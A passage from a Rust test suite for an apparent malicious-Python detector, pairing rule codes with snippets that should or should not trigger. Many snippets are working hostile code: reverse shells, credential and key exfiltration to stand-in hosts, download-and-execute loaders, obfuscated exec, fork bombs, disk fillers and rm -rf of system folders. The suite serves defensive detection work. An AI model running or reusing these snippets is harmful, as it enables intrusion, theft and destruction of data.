        "import requests, sys, importlib, os\nsrc = requests.get('https://cdn.example/plugin.txt').text\ndest = os.path.join('/tmp/plugins', 'plugin_core.py')\nwith open(dest, 'w') as f:\n    f.write(src)\nsys.path.insert(0, '/tmp/plugins')\nmod = importlib.import_module('plugin_core')\nmod.main()\n",
    );
    fires(
        "CRD102",
        "import urllib.request, sys\nurllib.request.urlretrieve('http://h.example/u.py', 'updater.py')\nsys.path.append('.')\nimport updater\n",
    );
    silent(
        "CRD102",
        "import requests, json\nopen('rates.json', 'w').write(requests.get('https://api.example/r').text)\nimport json\nprint(json.load(open('rates.json')))\n",
    );
}

#[test]
fn host_files_sent_off_the_machine_are_exfiltration() {
    // The raw contents of the system's own files posted to a server fingerprint the host;
    // reading them to print, or the everyday ones (cpuinfo, hostname) sent to a tracker,
    // does not leak.
    fires(
        "CRD109",
        "import urllib.request\ndef ship(u, b):\n    return urllib.request.urlopen(urllib.request.Request(u, data=b)).status\nwith open('/usr/lib/os-release', 'rb') as f:\n    ship('http://10.1.1.1/in', f.read())\n",
    );
    fires(
        "CRD109",
        "import socket\ninfo = {p: open(p).read() for p in ['/etc/fstab', '/proc/modules']}\nsocket.create_connection(('c2.example', 80)).sendall(repr(info).encode())\n",
    );
    silent(
        "CRD109",
        "import requests\ncores = open('/proc/cpuinfo').read().count('processor')\nrequests.post('https://api.example/jobs', json={'workers': 4})\nprint(cores)\n",
    );
    level(Level::Low, "print(open('/proc/cpuinfo').read())\n");
    silent(
        "CRD109",
        "import requests\nhost = open('/etc/hostname').read().strip()\nmem = open('/proc/meminfo').readline()\nrequests.post('https://tracker.example/log', json={'host': host, 'mem': mem})\n",
    );
}

#[test]
fn secrets_in_a_requests_body_or_the_whole_environment_anywhere_are_exfiltration() {
    // A credential in the body, or the whole environment even in headers or parameters,
    // leaves the machine as data.
    fires(
        "CRD109",
        "import os, requests\nrequests.post('https://h.example/c', json={'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
    );
    fires(
        "CRD109",
        "import os, requests\nrequests.get('https://h.example/p', params=dict(os.environ))\n",
    );
    for name in ["DB_PASS", "SENTRY_DSN", "DATABASE_URL"] {
        fires(
            "CRD109",
            &format!("import os, requests\nv = os.getenv('{name}')\nrequests.post('https://h.example/c', data=v)\n"),
        );
    }
    silent(
        "CRD109",
        "import os, requests\nrequests.post('https://h.example/c', data=os.getenv('PWD'))\n",
    );
    fires(
        "CRD109",
        "import os, urllib.request\nreq = urllib.request.Request('https://h.example/u', data=str(os.environ).encode())\nurllib.request.urlopen(req)\n",
    );
}

#[test]
fn fetched_code_run_from_an_unnamed_file_or_stdin_is_download_execute() {
    // A temporary file or a file descriptor the program never names, written with fetched
    // code and then run, or fetched code piped into an interpreter's stdin, runs it.
    fires(
        "CRD102",
        "import os, tempfile, subprocess, urllib.request\nbody = urllib.request.urlopen('http://h.example/s').read()\nfd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as f:\n    f.write(body)\nsubprocess.run(['bash', path])\n",
    );
    fires(
        "CRD102",
        "import tempfile, runpy, requests\ncode = requests.get('https://h.example/p.py').text\nwith tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as tmp:\n    tmp.write(code)\nrunpy.run_path(tmp.name)\n",
    );
    fires(
        "CRD102",
        "import sys, subprocess, requests\nsrc = requests.get('https://h.example/stage2').text\nsubprocess.run([sys.executable, '-'], input=src, text=True)\n",
    );
    silent(
        "CRD102",
        "import tempfile, subprocess, requests\ndata = requests.get('https://h.example/d.zip').content\nwith tempfile.NamedTemporaryFile(suffix='.zip', delete=False) as tmp:\n    tmp.write(data)\nsubprocess.run(['unzip', '-o', tmp.name, '-d', 'data'])\nsubprocess.run(['python3', '-'], input='print(1)', text=True)\n",
    );
}

#[test]
fn browser_stores_keyrings_and_archived_keys_sent_out_are_exfiltration() {
    // Saved browser passwords, the desktop keyring, and a key packed into an archive that
    // is then sent are secrets leaving the machine.
    fires(
        "CRD109",
        "import os, glob, requests\nfor p in glob.glob(os.path.expanduser('~/.mozilla/firefox/*.default*/logins.json')):\n    requests.post('http://h.example/u', data=open(p, 'rb').read())\n",
    );
    fires(
        "CRD109",
        "import keyring, requests\npw = keyring.get_password('github', 'me')\nrequests.post('http://h.example/u', data={'p': pw})\n",
    );
    fires(
        "CRD109",
        "import io, os, socket, zipfile\nbuf = io.BytesIO()\nwith zipfile.ZipFile(buf, 'w') as zf:\n    zf.write(os.path.expanduser('~/.ssh/id_ed25519'), arcname='k')\nsocket.create_connection(('h.example', 7000)).sendall(buf.getvalue())\n",
    );
}

#[test]
fn bind_shells_syscalls_by_number_and_endless_iter_loops() {
    // A shell wired to an accepted connection; a kernel module loaded through
    // syscall(313); forking in `for _ in iter(int, 1)`.
    fires(
        "CRD101",
        "import os, pty, socket\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, _ = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\npty.spawn('/bin/sh')\n",
    );
    fires(
        "CRD106",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nfd = os.open('/tmp/m.ko', os.O_RDONLY)\nlibc.syscall(313, fd, b'', 0)\n",
    );
    fires(
        "CRD111",
        "import os\nfor _ in iter(int, 1):\n    os.fork()\n",
    );
    silent(
        "CRD101",
        "import socket\ns = socket.socket()\ns.bind(('127.0.0.1', 8000))\ns.listen()\nc, _ = s.accept()\nc.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nhi')\n",
    );
}

#[test]
fn a_decoding_chain_folded_by_reduce_is_decode_then_execute() {
    // functools.reduce applying a list of decoders to a constant, then exec.
    fires(
        "CRD103",
        "import base64, functools\nSTAGES = [base64.b64decode, bytes.decode]\nDATA = 'aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='\nexec(functools.reduce(lambda acc, fn: fn(acc), STAGES, DATA))\n",
    );
}

#[test]
fn commands_read_from_a_servers_clients_are_run_for_them() {
    // An asyncio server whose handler runs each line a client sends is a remote shell.
    fires(
        "CRD102",
        "import asyncio\nasync def handle(reader, writer):\n    while True:\n        line = (await reader.readline()).decode()\n        p = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)\n        writer.write((await p.communicate())[0])\nasync def main():\n    srv = await asyncio.start_server(handle, '0.0.0.0', 9001)\n    await srv.serve_forever()\nasyncio.run(main())\n",
    );
    silent(
        "CRD102",
        "import asyncio\nasync def echo(reader, writer):\n    writer.write(await reader.readline())\nasync def main():\n    await (await asyncio.start_server(echo, '127.0.0.1', 9001)).serve_forever()\nasyncio.run(main())\n",
    );
}

#[test]
fn several_credentials_or_an_ip_destination_are_not_authentication() {
    // Credentials collected into one request, or sent to a bare address, are a leak.
    fires(
        "CRD109",
        "import os, requests\nrequests.get('https://h.example/c', params={'a': os.environ['AWS_SECRET_ACCESS_KEY'], 'g': os.environ['GITHUB_TOKEN']})\n",
    );
    fires(
        "CRD109",
        "import os, requests\nt = os.environ['GITHUB_TOKEN']\nrequests.get(f'https://203.0.113.7/c?k={t}')\n",
    );
    // A pickle rewritten with other bytes after the program pickled it is not its own.
    fires(
        "CRD302",
        "import pickle\np = 'c.pkl'\npickle.dump({}, open(p, 'wb'))\nopen(p, 'wb').write(blob)\nwith open(p, 'rb') as f:\n    pickle.load(f)\n",
    );
}

#[test]
fn endless_loops_growing_memory_or_disk_by_megabytes() {
    // A loop that never ends nor waits, adding a big block each pass, is a resource bomb.
    fires(
        "CRD112",
        "hoard = []\nwhile 1:\n    hoard.append(bytearray(1 << 26))\n",
    );
    fires(
        "CRD112",
        "import os, itertools\nblob = os.urandom(32 * 1024 * 1024)\nfor n in itertools.count():\n    with open(os.path.join('/tmp', str(n)), 'wb') as out:\n        for _ in range(16):\n            out.write(blob)\n",
    );
    // Small items, a loop that waits for input or one that ends are ordinary programs.
    silent("CRD112", "log = []\nwhile True:\n    log.append(input())\n");
    silent(
        "CRD112",
        "buf = []\nwhile True:\n    buf.append(bytes(1 << 24))\n    if len(buf) > 3:\n        break\n",
    );
    silent(
        "CRD112",
        "rows = []\nwhile True:\n    rows.append('x' * 80)\n    print(len(rows))\n    break\n",
    );
}

#[test]
fn forking_copies_that_loop_on_are_a_bomb_even_when_slow() {
    // Each child continues the loop and forks too; a sleep only slows the doubling.
    fires(
        "CRD111",
        "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(0.1)\n        continue\n    time.sleep(1)\n",
    );
    // A parent that waits for each child, or a child that exits, is a worker pool.
    silent(
        "CRD111",
        "import os, time\nwhile True:\n    pid = os.fork()\n    if pid == 0:\n        time.sleep(1)\n        os._exit(0)\n    os.waitpid(pid, 0)\n",
    );
}

#[test]
fn installing_a_package_from_elsewhere_runs_its_code() {
    // pip from a URL, a VCS or another index runs setup code nobody assessed.
    fires(
        "CRD102",
        "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'https://pkgs.example.net/tool-1.0.tar.gz'])\n",
    );
    fires(
        "CRD102",
        "import os\nos.system('pip3 install \"helper @ http://mirror.example.net/helper-1.0.tar.gz\"')\n",
    );
    // An index of the operator's own (allowed in the network policy) serves what they
    // publish.
    silent(
        "CRD102",
        "import os\nos.system('pip3 install --index-url http://pypi.internal/simple helper')\n",
    );
    // A requirements file or a package from PyPI is not.
    silent(
        "CRD102",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n",
    );
}

#[test]
fn a_fetched_library_with_a_computed_name_is_loaded() {
    // The name is partly known (`libx-<arch>.so`) but the same where written and loaded.
    fires(
        "CRD102",
        "import ctypes, os, platform, tempfile, urllib.request\nname = f'libx-{platform.machine()}.so'\npath = os.path.join(tempfile.gettempdir(), name)\nwith open(path, 'wb') as f:\n    f.write(urllib.request.urlopen('https://cdn.example.net/' + name).read())\nctypes.CDLL(path)\n",
    );
}

#[test]
fn more_escape_persistence_and_mining_markers() {
    // The Docker SDK drives the engine through its socket; launchd agents start at login;
    // a `/getwork` endpoint is the mining RPC.
    fires(
        "CRD106",
        "import docker\ndocker.from_env().containers.run('alpine', privileged=True)\n",
    );
    fires(
        "CRD105",
        "import plistlib\nfrom pathlib import Path\nwith open(Path.home() / 'Library/LaunchAgents/com.x.plist', 'wb') as f:\n    plistlib.dump({'Label': 'x'}, f)\n",
    );
    fires(
        "CRD108",
        "import requests\njob = requests.get('https://pool.example.net/api/getwork').json()\n",
    );
}

#[test]
fn browser_profiles_walked_and_sent_out() {
    // Every file below a browser profile may be its cookies or passwords.
    fires(
        "CRD109",
        "import shutil, requests\nfrom pathlib import Path\nprofile = Path.home() / '.config/chromium/Default'\nfor f in profile.rglob('*'):\n    shutil.copy2(f, '/tmp/stage')\nrequests.post('https://sync.example.net', files={'f': open('/tmp/stage', 'rb')})\n",
    );
}

#[test]
fn cloud_session_keys_sent_out() {
    // `get_credentials()` of a boto3 session is the account's keys.
    fires(
        "CRD109",
        "import boto3, requests\ncreds = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post('https://audit.example.net', json={'k': creds.access_key, 's': creds.secret_key})\n",
    );
}

#[test]
fn rot13_by_codecs_encode_is_decoding() {
    // rot13 is its own inverse: `codecs.encode(s, "rot_13")` decodes hidden code.
    fires(
        "CRD103",
        "import codecs\nexec(codecs.encode('vzcbeg bf; bf.flfgrz(\"vq\")', 'rot_13'))\n",
    );
}

#[test]
fn a_tool_found_with_which_is_that_tool() {
    // `shutil.which("ncat")` returns a path to ncat: given `-e /bin/sh`, a reverse shell.
    fires(
        "CRD101",
        "import shutil, subprocess\ntool = next(p for p in map(shutil.which, ['ncat', 'nc']) if p)\nsubprocess.call([shutil.which('nc'), 'relay.example.net', '9001', '-e', '/bin/sh'])\n",
    );
}

#[test]
fn truncating_every_file_in_the_users_documents() {
    // Every file found below ~/Documents opened for writing is wiped.
    fires(
        "CRD104",
        "from pathlib import Path\nfor f in (Path.home() / 'Documents').rglob('*'):\n    open(f, 'w').close()\n",
    );
    // Rewriting the project's own sources is a formatter.
    silent(
        "CRD104",
        "from pathlib import Path\nfor f in Path('src').rglob('*.py'):\n    text = f.read_text()\n    open(f, 'w').write(text.strip() + '\\n')\n",
    );
}

#[test]
fn context_managers_and_finalizers_of_the_programs_classes_run() {
    // `__exit__` gathers the tokens and `__del__` sends them as the program ends.
    fires(
        "CRD109",
        "import os, socket\n\nclass Flush:\n    def __init__(self):\n        self.box = {}\n    def __enter__(self):\n        return self\n    def __exit__(self, *exc):\n        self.box = dict(os.environ)\n    def __del__(self):\n        socket.create_connection(('sink.example.net', 443)).sendall(repr(self.box).encode())\n\nwith Flush() as f:\n    pass\n",
    );
}

#[test]
fn emptying_system_files_destroys_them() {
    // `Path.write_bytes` taken from the class, writing nothing over /etc files.
    fires(
        "CRD104",
        "from pathlib import Path\nblank = getattr(Path, 'write_' + 'bytes')\nfor name in ('passwd', 'fstab'):\n    blank(Path('/etc') / name, b'')\n",
    );
}

#[test]
fn hooks_put_into_every_repository_found() {
    // Git hooks written into repositories found below home run on the user's next commit.
    fires(
        "CRD105",
        "import os\nfor top, dirs, _ in os.walk(os.path.expanduser('~')):\n    if '.git' in dirs:\n        with open(os.path.join(top, '.git', 'hooks', 'pre-commit'), 'w') as h:\n            h.write('#!/bin/sh\\ncurl -s https://x.example.net/p | sh\\n')\n",
    );
    // The program's own repository's hook is its set-up.
    silent(
        "CRD105",
        "with open('.git/hooks/pre-commit', 'w') as h:\n    h.write('#!/bin/sh\\nruff check .\\n')\n",
    );
}

#[test]
fn xor_with_a_cycled_key_and_sliced_alphabets_decode() {
    // Bytes XORed with a repeating key, then run, are a decoded payload.
    fires(
        "CRD103",
        "from itertools import cycle\nblob = b'\\x02\\x06\\x1b\\x04\\x19\\x1f'\nexec(bytes(a ^ b for a, b in zip(blob, cycle(b'k'))).decode())\n",
    );
    // A Caesar table built from `string` constants and slices folds like any text.
    fires(
        "CRD101",
        "import string\nA = string.ascii_letters + string.digits\nT = str.maketrans(A[3:] + A[:3], A)\nexec('lpsruw rv; rv.vBvwhp(\"qf -h /elq/vk 4.5.6.7 c\")'.translate(T))\n",
    );
}

#[test]
fn endless_generators_feed_endless_loops() {
    // A generator that yields big buffers for ever, kept by `map(list.append, ...)`.
    fires(
        "CRD112",
        "import itertools\ndef blocks(size):\n    for _ in itertools.count():\n        yield bytearray(size)\nhoard = []\nfor _ in map(hoard.append, blocks(64 * 1024 * 1024)):\n    pass\n",
    );
    // A generator that stops is a bounded batch.
    silent(
        "CRD112",
        "def blocks(size):\n    for _ in range(4):\n        yield bytearray(size)\nhoard = []\nfor b in blocks(64 * 1024 * 1024):\n    hoard.append(b)\n",
    );
}

#[test]
fn a_retry_sleep_does_not_pace_a_disk_filler() {
    // The sleep runs only when a write failed; every other pass writes 256 MiB more.
    fires(
        "CRD112",
        "import os, time\nBLOCK = os.urandom(1 << 20)\nn = 0\nwhile True:\n    try:\n        with open(f'chunk-{n}.bin', 'wb') as fh:\n            for _ in range(256):\n                fh.write(BLOCK)\n    except OSError:\n        time.sleep(1)\n        continue\n    n += 1\n",
    );
    // Pacing every pass bounds it.
    silent(
        "CRD112",
        "import os, time\nBLOCK = os.urandom(1 << 20)\nn = 0\nwhile True:\n    with open(f'chunk-{n}.bin', 'wb') as fh:\n        fh.write(BLOCK)\n    time.sleep(60)\n    n += 1\n",
    );
}

#[test]
fn a_download_renamed_into_place_then_run() {
    fires(
        "CRD102",
        "import os, subprocess, urllib.request\nfrom pathlib import Path\ndest = Path.home() / '.local' / 'bin' / 'agent'\ntmp = dest.with_suffix('.new')\ntmp.write_bytes(urllib.request.urlopen('http://203.0.113.9/agent').read())\nos.replace(tmp, dest)\nsubprocess.Popen([str(dest), '--daemon'])\n",
    );
}

#[test]
fn user_folders_removed_whole_and_found_through_yield_from() {
    fires(
        "CRD104",
        "import shutil\nfrom pathlib import Path\nfor name in ['Documents', 'Desktop']:\n    shutil.rmtree(Path.home() / name, ignore_errors=True)\n",
    );
    fires(
        "CRD104",
        "from pathlib import Path\ndef found(home):\n    for r in ['Documents', 'Pictures']:\n        yield from (p for p in (home / r).rglob('*') if p.is_file())\nfor p in found(Path.home()):\n    p.unlink()\n",
    );
}

#[test]
fn the_environment_saved_to_a_file() {
    // Its secrets taken out of where they are kept (HIGH); that `curl` sends that file is
    // not followed.
    fires(
        "CRD205",
        "import json, os, subprocess, tempfile\nwith tempfile.NamedTemporaryFile('w', suffix='.json', delete=False) as fh:\n    json.dump({'env': {k: v for k, v in os.environ.items()}}, fh)\nsubprocess.run(['curl', '-sS', '--data-binary', f'@{fh.name}', 'https://hooks.example.net/ci'])\n",
    );
}

#[test]
fn templates_and_call_dunders_reach_the_shell() {
    // `string.Template` substitution folds like `str.format`.
    fires(
        "CRD101",
        "import string, subprocess\ncmd = string.Template('$i -i >& /dev/tcp/$host/$port 0>&1').substitute(i='bash', host='203.0.113.7', port=9001)\nsubprocess.run(['bash', '-c', cmd])\n",
    );
    // `methodcaller('__call__', cmd)` applied to `os.system` calls it.
    fires(
        "CRD103",
        "import operator, os\ncall = operator.methodcaller('__call__', bytes.fromhex('6375726c20687474703a2f2f782e6578616d706c652e6e65742f73207c207368').decode())\ncall(getattr(os, 'sys' + 'tem'))\n",
    );
}

#[test]
fn a_helper_that_signals_found_processes_kills_others() {
    // The helper alone says nothing; the call with a found pid does.
    fires(
        "CRD107",
        "import os, psutil, signal\ndef stop(pid):\n    os.kill(pid, signal.SIGKILL)\nfor proc in psutil.process_iter(['name']):\n    if proc.info['name'] == 'sshd':\n        stop(proc.pid)\n",
    );
    fires(
        "CRD107",
        "import os\nfor pid in range(2, 40000):\n    os.kill(pid, 9)\n",
    );
    // A handler the analysis never follows a call into is judged by what it signals.
    fires(
        "CRD107",
        "import os, signal\ndef handler(signum, frame):\n    for d in os.listdir('/proc'):\n        if d.isdigit():\n            os.kill(int(d), signal.SIGKILL)\nsignal.signal(signal.SIGALRM, handler)\nsignal.alarm(1)\n",
    );
}

#[test]
fn attribute_getters_class_iterators_and_secrets_held_by_attributes() {
    // `operator.attrgetter("run")(subprocess)` is `subprocess.run`.
    fires(
        "CRD103",
        "import binascii, operator, subprocess\nrun = operator.attrgetter('run')(subprocess)\nrun(binascii.unhexlify('6375726c20782e6578616d706c652e6e6574207c207368').decode(), shell=True)\n",
    );
    // Iterating over an instance goes through its class's `__iter__`.
    fires(
        "CRD109",
        "import os, socket\nclass Harvest:\n    def __init__(self, env):\n        self.env = env\n    def __iter__(self):\n        for k, v in self.env.items():\n            yield f'{k}={v}'.encode()\nsink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor part in Harvest(os.environ):\n    sink.sendto(part, ('203.0.113.7', 53))\n",
    );
    // A message object given the environment carries it to the mail server.
    fires(
        "CRD109",
        "import json, os, smtplib\nfrom email.message import EmailMessage\nclass Envelope:\n    def __init__(self, payload):\n        self.msg = EmailMessage()\n        self.msg.set_content(payload)\n    def post(self):\n        with smtplib.SMTP('mail.example.net', 25) as conn:\n            conn.send_message(self.msg)\nEnvelope(json.dumps(dict(os.environ))).post()\n",
    );
}

#[test]
fn context_manager_generators_pool_map_results_and_methods_by_getattr() {
    // `with keyring() as f`: `f` is what the `@contextmanager` generator yields.
    fires(
        "CRD105",
        "import contextlib, pathlib\n@contextlib.contextmanager\ndef keyring():\n    yield pathlib.Path.home() / '.ssh' / 'authorized_keys'\nwith keyring() as f:\n    with f.open('a') as fh:\n        fh.write('ssh-ed25519 AAAA attacker')\n",
    );
    // What `pool.map` returns is what its calls returned: fetched code, then run.
    fires(
        "CRD102",
        "import types, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef get(url):\n    with urllib.request.urlopen(url) as r:\n        return r.read().decode()\nwith ThreadPoolExecutor(4) as ex:\n    src = ''.join(ex.map(get, ['https://cdn.example.net/1', 'https://cdn.example.net/2']))\ntypes.FunctionType(compile(src, 'x', 'exec'), globals())()\n",
    );
    // `getattr(proc, "kill")()` on a process found by name.
    fires(
        "CRD107",
        "import psutil\nfor proc in psutil.process_iter(['name']):\n    if proc.info['name'] == 'sshd':\n        getattr(proc, 'ki' + 'll')()\n",
    );
}

#[test]
fn a_registry_filled_by_a_decorator_and_dispatched_by_a_run_time_key() {
    // A handler stored by a decorator under a run-time key is what the table dispatches to.
    fires(
        "CRD104",
        "import os\nREGISTRY = {}\ndef on(kind):\n    def add(fn):\n        REGISTRY[kind] = fn\n        return fn\n    return add\n@on('f')\ndef purge(p):\n    os.remove(p)\nfor top, dirs, files in os.walk('/', topdown=False):\n    for n in files:\n        REGISTRY[n[:1]](os.path.join(top, n))\n",
    );
    // A selector's callback runs with the listening socket: a shell wired to what it accepts.
    fires(
        "CRD101",
        "import selectors, socket, subprocess\nsel = selectors.DefaultSelector()\ndef accepted(server, mask):\n    conn, _ = server.accept()\n    subprocess.Popen(['/bin/sh', '-i'], stdin=conn.fileno(), stdout=conn.fileno(), stderr=conn.fileno())\nsrv = socket.socket()\nsrv.bind(('0.0.0.0', 9001))\nsrv.listen()\nsel.register(srv, selectors.EVENT_READ, accepted)\nwhile True:\n    for key, mask in sel.select():\n        key.data(key.fileobj, mask)\n",
    );
    // What an executor's task returns is what awaiting it gives: fetched code, compiled and run.
    fires(
        "CRD102",
        "import asyncio, types, urllib.request\ndef fetch(u):\n    return urllib.request.urlopen(u).read().decode()\nasync def main():\n    loop = asyncio.get_running_loop()\n    body = await loop.run_in_executor(None, fetch, 'https://cdn.example.net/p.py')\n    types.FunctionType(compile(body, 'p', 'exec'), {})()\nasyncio.run(main())\n",
    );
    // An archive downloaded under its URL's own file name, put on sys.path and imported.
    fires(
        "CRD102",
        "import os, sys, urllib.request\nfrom pathlib import Path\nURL = 'https://dl.example.net/tools/plugins-2.1.zip'\ndest = Path.home() / '.cache' / os.path.basename(URL)\nurllib.request.urlretrieve(URL, dest)\nsys.path.insert(0, str(dest))\nimport plugins\n",
    );
    // An import finder on sys.meta_path that fetches the module's source and executes it.
    fires(
        "CRD102",
        "import importlib.abc, importlib.util, sys, urllib.request\nclass Remote(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path, target=None):\n        return importlib.util.spec_from_loader(name, self)\n    def create_module(self, spec):\n        return None\n    def exec_module(self, module):\n        src = urllib.request.urlopen('https://mods.example.net/' + module.__name__).read()\n        exec(compile(src, module.__name__, 'exec'), module.__dict__)\nsys.meta_path.append(Remote())\nimport turbo_json\n",
    );
    // A hand-written stratum login carries the miner's login, password and agent.
    fires(
        "CRD108",
        "import json, socket\ns = socket.create_connection(('203.0.113.9', 14444))\nhello = {'id': 1, 'method': 'login', 'params': {'login': 'WALLET', 'pass': 'x', 'agent': 'rig/1'}}\ns.sendall((json.dumps(hello) + '\\n').encode())\n",
    );
    // An endless loop that stores a new entry per pass, waiting for nothing, exhausts memory however small each entry is.
    fires(
        "CRD112",
        "import itertools\nseen = {}\nfor n in itertools.count():\n    seen[str(n)] = [n] * 64\n",
    );
    // A writer whose loop test is a call that always returns True fills the disk.
    fires(
        "CRD112",
        "def writer(path):\n    fh = open(path, 'ab')\n    def emit():\n        fh.write(b'x' * 4096)\n        return True\n    return emit\nstep = writer('/tmp/fill.bin')\nwhile step():\n    pass\n",
    );
    // A method growing an OrderedDict it owns, called from `while True`.
    fires(
        "CRD112",
        "from collections import OrderedDict\nclass Cache:\n    def __init__(self):\n        self.items = OrderedDict()\n        self.n = 0\n    def add(self):\n        self.n += 1\n        self.items[str(self.n)] = bytearray(4096)\ncache = Cache()\nwhile True:\n    cache.add()\n",
    );
    // An iterator of the program's own whose `__next__` forks, pulled forever with next().
    fires(
        "CRD111",
        "import itertools, os\nclass Spawner:\n    def __next__(self):\n        return os.fork()\nsp = Spawner()\nfor _ in itertools.count():\n    next(sp)\n",
    );
    // Several services' credentials joined into one header are a harvest, sent to a third party.
    fires(
        "CRD109",
        "import os, requests\nNAMES = ('GITHUB_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'OPENAI_API_KEY', 'NPM_TOKEN')\nctx = ';'.join(f'{n}={os.environ.get(n, \"\")}' for n in NAMES)\nrequests.post('https://stats.example.net/ping', headers={'X-Context': ctx})\n",
    );
    // A descriptor's `__get__` hands the environment to the attribute read.
    fires(
        "CRD109",
        "import json, os, urllib.request\nclass Context:\n    def __get__(self, obj, owner):\n        return dict(os.environ)\nclass Beacon:\n    ctx = Context()\n    def send(self):\n        urllib.request.urlopen('https://t.example.net/b', json.dumps(self.ctx).encode())\nBeacon().send()\n",
    );
    // `sink << data` runs the class's `__lshift__`, which sends what it is given; `dict(obj)` goes through `__iter__`.
    fires(
        "CRD109",
        "import json, os, socket\nclass Secrets:\n    def __iter__(self):\n        return ((k, v) for k, v in os.environ.items() if 'KEY' in k)\nclass Sink:\n    def __init__(self):\n        self.sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    def __lshift__(self, blob):\n        self.sock.sendto(blob, ('203.0.113.5', 53))\n        return self\nSink() << json.dumps(dict(Secrets())).encode()\n",
    );
    // Shell histories posted by curl with arguments joined by itertools.chain.
    fires(
        "CRD109",
        "import os, subprocess\nfrom itertools import chain\nhist = [os.path.join(os.path.expanduser('~'), '.' + n + '_history') for n in ('bash', 'zsh')]\nfor h in hist:\n    subprocess.run(list(chain(['curl', '-s'], ['-F', 'f=@' + h], ['https://paste.example.net/p'])))\n",
    );
    // Every file found by os.scandir under the user's documents, removed.
    fires(
        "CRD104",
        "import os\nfrom pathlib import Path\nstack = [Path.home() / 'Documents']\nwhile stack:\n    for entry in os.scandir(stack.pop()):\n        if entry.is_dir():\n            stack.append(entry.path)\n        else:\n            os.remove(entry.path)\n",
    );
    // A start-method context's Process, started from an endless generator.
    fires(
        "CRD111",
        "import multiprocessing as mp\ndef node():\n    pass\ndef procs(ctx):\n    while True:\n        yield ctx.Process(target=node)\nfor p in procs(mp.get_context('fork')):\n    p.start()\n",
    );
    // A classmethod builds a list subclass of a curl command that posts a credentials file.
    fires(
        "CRD109",
        "import os, subprocess\nPARTS = {0: 'curl', 1: '--data-binary', 2: '@' + os.path.expanduser('~/.aws/credentials'), 3: 'https://c.example.net/u'}\nclass Argv(list):\n    @classmethod\n    def build(cls, table):\n        return cls(table[i] for i in sorted(table))\nsubprocess.run(Argv.build(PARTS))\n",
    );
}

#[test]
fn code_kept_in_docstrings_and_text_made_by_the_programs_own_classes() {
    // Code indented inside a string, dedented before it runs.
    fires(
        "CRD209",
        "import textwrap\ncode = textwrap.dedent('''\n    import os\n    os.system('id')\n''')\nexec(code)\n",
    );
    // A reverse shell kept as a function's docstring and run from `inspect.getdoc`.
    fires(
        "CRD101",
        "import inspect\ndef payload():\n    '''\n    import socket, subprocess\n    s = socket.create_connection(('203.0.113.7', 4444))\n    subprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n    '''\nexec(inspect.getdoc(payload))\n",
    );
    // The same through `__doc__` and `inspect.cleandoc`.
    fires(
        "CRD209",
        "import inspect\ndef notes():\n    '''import subprocess\n    subprocess.run(['id'])\n    '''\nexec(inspect.cleandoc(notes.__doc__))\n",
    );
    // `str()`, an f-string and `repr()` of an instance are what its dunder methods return.
    fires(
        "CRD104",
        "import os\nclass Cmd:\n    def __str__(self):\n        return 'rm -rf / --no-preserve-root'\nos.system(str(Cmd()))\n",
    );
    fires(
        "CRD104",
        "import os\nclass Target:\n    def __format__(self, spec):\n        return '/etc'\nos.system(f'rm -rf {Target()}')\n",
    );
    fires(
        "CRD104",
        "import shutil\nclass Where:\n    def __repr__(self):\n        return '/usr'\nshutil.rmtree(repr(Where()))\n",
    );
    // `format(**fields)` of a dict with known keys.
    fires(
        "CRD104",
        "import os\nparts = {'cmd': 'rm', 'arg': '-rf', 'where': '/'}\nos.system('{cmd} {arg} {where}'.format(**parts))\n",
    );
    // `enumerate` of a known list gives its items.
    fires(
        "CRD104",
        "import shutil\nfor i, p in enumerate(['/etc', '/usr']):\n    shutil.rmtree(p)\n",
    );
    // `http.client`'s `request(method, url, body, headers)`: the body leaves the machine.
    fires(
        "CRD109",
        "import http.client, json, os\nconn = http.client.HTTPSConnection('t.example.net')\nconn.request('POST', '/c', json.dumps(dict(os.environ)), {'Content-Type': 'application/json'})\n",
    );
    // A browser's history copied aside, then read back and sent.
    fires(
        "CRD109",
        "import os, shutil, urllib.request\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/History'), '/tmp/h.sqlite')\nurllib.request.urlopen('https://c.example.net/u', open('/tmp/h.sqlite', 'rb').read())\n",
    );
}

#[test]
fn objects_filled_by_the_functions_and_methods_they_are_given_to() {
    // A dict handed to each step fills up: the socket made in one is the one the next wires.
    fires(
        "CRD101",
        "import os, socket\ndef open_link(ctx):\n    ctx['link'] = socket.create_connection(('203.0.113.4', 4444))\ndef attach(ctx):\n    for fd in (0, 1, 2):\n        os.dup2(ctx['link'].fileno(), fd)\nctx = {}\nfor step in (open_link, attach):\n    step(ctx)\nos.execv('/bin/sh', ['sh', '-i'])\n",
    );
    // A callback list filled by `subscribe` is what `scan` calls: every key found is sent.
    fires(
        "CRD109",
        "import os, socket\nclass Watcher:\n    def __init__(self):\n        self.listeners = []\n    def subscribe(self, fn):\n        self.listeners.append(fn)\n    def scan(self):\n        for name in os.listdir(os.path.expanduser('~/.ssh')):\n            for fn in self.listeners:\n                fn(os.path.join(os.path.expanduser('~/.ssh'), name))\ndef ship(path):\n    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(open(path, 'rb').read(), ('198.51.100.9', 53))\nw = Watcher()\nw.subscribe(ship)\nw.scan()\n",
    );
